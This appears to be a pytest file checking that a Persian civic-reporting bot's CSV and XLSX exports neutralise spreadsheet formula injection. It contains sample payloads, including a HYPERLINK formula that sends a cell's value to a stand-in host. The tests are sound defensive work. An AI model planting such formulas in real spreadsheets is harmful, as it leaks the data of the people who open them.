"""Exports cannot be turned against the people who open them: no cell a person wrote becomes a
formula in Excel or LibreOffice, in CSV or XLSX, and each column opens as what it holds."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import insert, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.config import Settings
from bot.i18n import Translator
from bot.jalali import TEHRAN, format_date
from bot.reports import EXPORT_COLUMN_KEYS, export_rows, write_export
from models.entities import Case, GroupStatus, LocalGroup, Neighbourhood
from tests.conftest import COORDINATOR, COORDINATOR_CHAT, Bot
from tests.fakebot import ApiCall
from tests.test_privacy import PHONE

Sessions = async_sessionmaker[AsyncSession]

# Each way a cell can start a formula, and the text around it that must survive readably.
HOSTILE = [
    '=HYPERLINK("http://x.example/?p="&K3,"جزئیات بیشتر")',
    "+1+1 چاله بزرگ وسط خیابان",
    "-2+3 چراغ خیابان خاموش است",
    "@SUM(1) سطل زباله پر است",
    "\t=1 آب در کوچه جمع شده",
    "\r=1 درخت در خیابان افتاده",
    "   =1+1 با فاصله در آغاز",
    "\u200f=1+1 با نشانهٔ راست‌به‌چپ",
]
FORMULA_STARTS = set("=+-@\t\r")
# A formula in the sheet's XML, with or without a namespace prefix.
FORMULA_ELEMENT = re.compile(rb"<(\w+:)?f[\s>/]")


def t(key: str, /, **values: object) -> str:
    return Translator.load()(key, "fa", **values)


HEADER = [t(key) for key in EXPORT_COLUMN_KEYS]


def column(key: str) -> int:
    return EXPORT_COLUMN_KEYS.index(key)


def tehran_clock(moment: datetime) -> datetime:
    """The moment as Tehran's clock reads it (a SQLite column gives UTC without a zone)."""
    aware = moment if moment.tzinfo else moment.replace(tzinfo=UTC)
    return aware.astimezone(TEHRAN).replace(tzinfo=None)


def looks_like_formula(cell: str) -> bool:
    """What Excel or LibreOffice would evaluate when opening a CSV."""
    stripped = re.sub(r"^[\s\u200b-\u200f\u202a-\u202e\u2066-\u2069]+", "", cell)
    return cell[:1] in FORMULA_STARTS or stripped[:1] in FORMULA_STARTS


async def hostile_cases(session: AsyncSession) -> datetime:
    """One case per hostile text, filed on behalf of a group named with the same text, its
    reporter's phone shared; returns when they were filed."""
    place = (await session.scalars(select(Neighbourhood.id))).first()
    assert place is not None
    filed = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    groups = await session.execute(
        insert(LocalGroup).returning(LocalGroup.id),
        [
            {"name": text, "created_by": 5000 + n, "invite_token": f"grp-{n}",
             "status": GroupStatus.APPROVED, "neighbourhood_id": place}
            for n, text in enumerate(HOSTILE)
        ],
    )  # fmt: skip
    group_ids = list(groups.scalars())
    await session.execute(
        insert(Case),
        [
            {"code": f"1405-{n + 1:05d}", "year": 1405, "sequence": n + 1,
             "draft_token": f"hostile-{n}", "neighbourhood_id": place, "text_original": text,
             "text_normalized": text, "photo_file_ids": [], "status": "forwarded",
             "share_phone": True, "reporter_phone": PHONE, "group_id": group_ids[n],
             "rating": 4, "reopen_count": 1, "created_at": filed, "updated_at": filed}
            for n, text in enumerate(HOSTILE)
        ],
    )  # fmt: skip
    await session.commit()
    return filed


async def export(session: AsyncSession, path: Path, file_format: str) -> int:
    rows = export_rows(
        session,
        start=datetime.now(UTC) - timedelta(days=1),
        end=datetime.now(UTC) + timedelta(days=1),
        t=t,
        language="fa",
    )
    return await write_export(rows, HEADER, path, file_format, sheet_title=t("export-sheet"))


def read_csv(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads Persian"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def assert_csv_is_inert(
    table: list[list[str]], texts: list[str], groups: list[str], filed: datetime
) -> None:
    """No cell evaluates; each person's text is there behind one quote; typed columns parse."""
    assert table[0] == HEADER
    for row in table:
        assert not [cell for cell in row if looks_like_formula(cell)], row
    rows = table[1:]
    assert sorted(row[column("export-text")] for row in rows) == sorted("'" + x for x in texts)
    assert sorted(row[column("export-group")] for row in rows) == sorted("'" + x for x in groups)
    for row in rows:
        assert row[column("export-phone")] == "'" + PHONE, "a quoted phone opens as text"
        when = datetime.strptime(row[column("export-datetime")], "%Y-%m-%d %H:%M")
        assert when == tehran_clock(filed).replace(second=0, microsecond=0)
        assert int(row[column("export-rating")]) == 4
        assert int(row[column("export-reopened")]) == 1


def assert_xlsx_is_inert(path: Path, texts: list[str], groups: list[str], filed: datetime) -> None:
    """No formula in the workbook (as openpyxl reads it and in its XML); typed cells; a named
    sheet with a bold, frozen, filtering header."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not FORMULA_ELEMENT.search(archive.read(name)), name
    workbook = load_workbook(path)
    assert workbook.sheetnames == [t("export-sheet")]
    sheet = workbook[t("export-sheet")]
    assert isinstance(sheet, Worksheet)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    header = next(sheet.iter_rows(max_row=1))
    assert [c.value for c in header] == HEADER
    assert all(c.font.b for c in header), "the header is bold"
    assert sheet.freeze_panes == "A2", "the header stays in view"
    last = chr(ord("A") + len(HEADER) - 1)
    assert sheet.auto_filter.ref == f"A1:{last}{len(texts) + 1}"
    assert (sheet.column_dimensions[chr(ord("A") + column("export-text"))].width or 0) >= 40
    body: list[list[Any]] = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert len(body) == len(texts)

    def readable(cell: Any) -> str:  # XML keeps a lone carriage return as a line break
        assert cell.data_type == "s"
        return str(cell.value).replace("\n", "\r")

    for key, written in (("export-text", texts), ("export-group", groups)):
        expected = sorted(x.replace("\n", "\r") for x in written)
        assert sorted(readable(row[column(key)]) for row in body) == expected
    for row in body:
        phone = row[column("export-phone")]
        assert (phone.value, phone.data_type) == (PHONE, "s"), "the phone opens as text"
        when = row[column("export-datetime")]
        assert when.is_date and isinstance(when.value, datetime)
        assert abs(when.value - tehran_clock(filed)) < timedelta(seconds=1)
        assert "yy" in when.number_format and "mm" in when.number_format
        jalali = str(row[column("export-date")].value)
        assert jalali.startswith(format_date(filed)), "the Jalali text stays for people"
        rating = row[column("export-rating")]
        assert (rating.value, rating.data_type) == (4, "n")
        assert row[column("export-reopened")].value == 1


async def test_hostile_texts_stay_text_in_csv_and_xlsx(
    session_factory: Sessions, tmp_path: Path
) -> None:
    async with session_factory() as session:
        filed = await hostile_cases(session)
    async with session_factory() as session:
        assert await export(session, tmp_path / "cases.csv", "csv") == len(HOSTILE)
    table = read_csv((tmp_path / "cases.csv").read_bytes())
    assert_csv_is_inert(table, HOSTILE, HOSTILE, filed)
    async with session_factory() as session:
        assert await export(session, tmp_path / "cases.xlsx", "xlsx") == len(HOSTILE)
    assert_xlsx_is_inert(tmp_path / "cases.xlsx", HOSTILE, HOSTILE, filed)


async def test_a_hostile_report_and_group_name_from_the_chat_export_as_text(
    bot: Bot, settings: Settings, session_factory: Sessions
) -> None:
    name, description = HOSTILE[0], '=HYPERLINK("http://x.example/?p="&K2,"چاله وسط خیابان")'
    founder = bot.user(1101)
    await founder.send("/group")
    await founder.send(name)
    await founder.send("پاکسازی پارک‌ها و کاشت درخت")
    await founder.send("جهاد")
    await founder.press("جهاد")
    await bot.in_group(COORDINATOR, COORDINATOR_CHAT, "دبیرخانه").press("تأیید")
    await founder.send("📝 گزارش جدید")
    await founder.send("جهاد")
    await founder.press("جهاد")
    await founder.send(description)
    await founder.send("ادامه ⬅️")
    await founder.send_contact(PHONE)
    await founder.press(name[:10])
    await founder.press("ثبت گزارش")
    async with session_factory() as session:
        [case] = (await session.scalars(select(Case))).all()
        case.rating, case.reopen_count = 4, 1  # rated after a reopening
        await session.commit()
    assert (case.text_original, case.reporter_phone) == (description, PHONE)
    assert case.group_id is not None

    def document(calls: list[ApiCall]) -> tuple[str, bytes]:
        [sent] = [c for c in calls if c.method == "sendDocument"]
        name, content, _ = sent.files["document"]
        return name, content

    coordinator = bot.user(COORDINATOR)
    file_name, content = document(await coordinator.send("/export"))
    assert file_name.endswith(".csv")
    assert_csv_is_inert(read_csv(content), [description], [name], case.created_at)
    file_name, content = document(await coordinator.send("/export xlsx"))
    assert file_name.endswith(".xlsx")
    path = Path(settings.triage.model_path).parent / file_name
    path.write_bytes(content)
    assert_xlsx_is_inert(path, [description], [name], case.created_at)
